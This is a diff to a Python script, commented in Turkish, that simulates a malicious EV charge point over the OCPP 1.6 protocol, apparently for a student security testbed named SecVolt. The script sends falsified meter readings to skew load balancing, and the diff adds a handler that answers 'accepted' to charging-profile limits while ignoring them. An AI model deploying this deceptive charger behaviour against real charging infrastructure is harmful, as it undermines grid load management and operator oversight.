@@ -1,18 +1,34 @@
 import asyncio
 import logging
+import os
+import sys
 import can
 import websockets
-from datetime import datetime, timezone
 
 from ocpp.v16 import ChargePoint as cp, call, call_result
-from ocpp.v16.enums import RegistrationStatus, RemoteStartStopStatus
+from ocpp.v16.enums import ChargingProfileStatus, RegistrationStatus, RemoteStartStopStatus
 from ocpp.routing import on
 
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from secvolt.simclock import simdi
+
 # Loglama formatını ayarlayalım
 logging.basicConfig(level=logging.INFO, format='%(asctime)s - [SALDIRGAN CP] - %(message)s')
 
 class AttackerChargePoint(cp):
 
+    async def send_boot_notification(self):
+        """ Şarj istasyonu açılış bildirimi (Standart Prosedür) """
+        request = call.BootNotification(
+            charge_point_model="SecVolt-Sim",
+            charge_point_vendor="GroupProject"
+        )
+        response = await self.call(request)
+        if response.status == RegistrationStatus.accepted:
+            logging.info("BootNotification KABUL EDİLDİ.")
+        else:
+            logging.info("BootNotification REDDEDİLDİ.")
+
     async def send_meter_values(self):
         """ 
         ANOMALİ SENARYOSU: Yük Dengeleme Algoritmasını Manipüle Etme
@@ -31,7 +47,7 @@ class AttackerChargePoint(cp):
         while True:
             # 1. Adım: Sahte Veri Hazırla
             payload = [{
-                "timestamp": datetime.now(timezone.utc).isoformat(),
+                "timestamp": simdi().isoformat(),
                 "sampled_value": [{
                     "value": str(SAHTE_RAPOR), # YALAN VERİ
                     "context": "Sample.Periodic",
@@ -58,6 +74,15 @@ class AttackerChargePoint(cp):
         logging.info(f"Komut Alındı: Başlat ({id_tag}) - Tam Güç Çekmeye Başlanıyor...")
         return call_result.RemoteStartTransaction(status=RemoteStartStopStatus.accepted)
 
+    @on('SetChargingProfile')
+    async def on_set_charging_profile(self, connector_id, cs_charging_profiles, **kwargs):
+        # Profil kabul edilmiş gibi görünür ama uygulanmaz: fiziksel çekiş tam güçte kalır
+        periyotlar = cs_charging_profiles.get('charging_schedule', {}).get('charging_schedule_period') or [{}]
+        limit = periyotlar[0].get('limit')
+        logging.warning("⚠️ Şarj profili alındı (Konnektör %s, Limit: %sW) - KABUL dendi, uygulanmıyor.",
+                        connector_id, limit)
+        return call_result.SetChargingProfile(status=ChargingProfileStatus.accepted)
+
     @on('RemoteStopTransaction')
     async def on_remote_stop(self, transaction_id, **kwargs):
         logging.info(f"Komut Alındı: Durdur ({transaction_id})")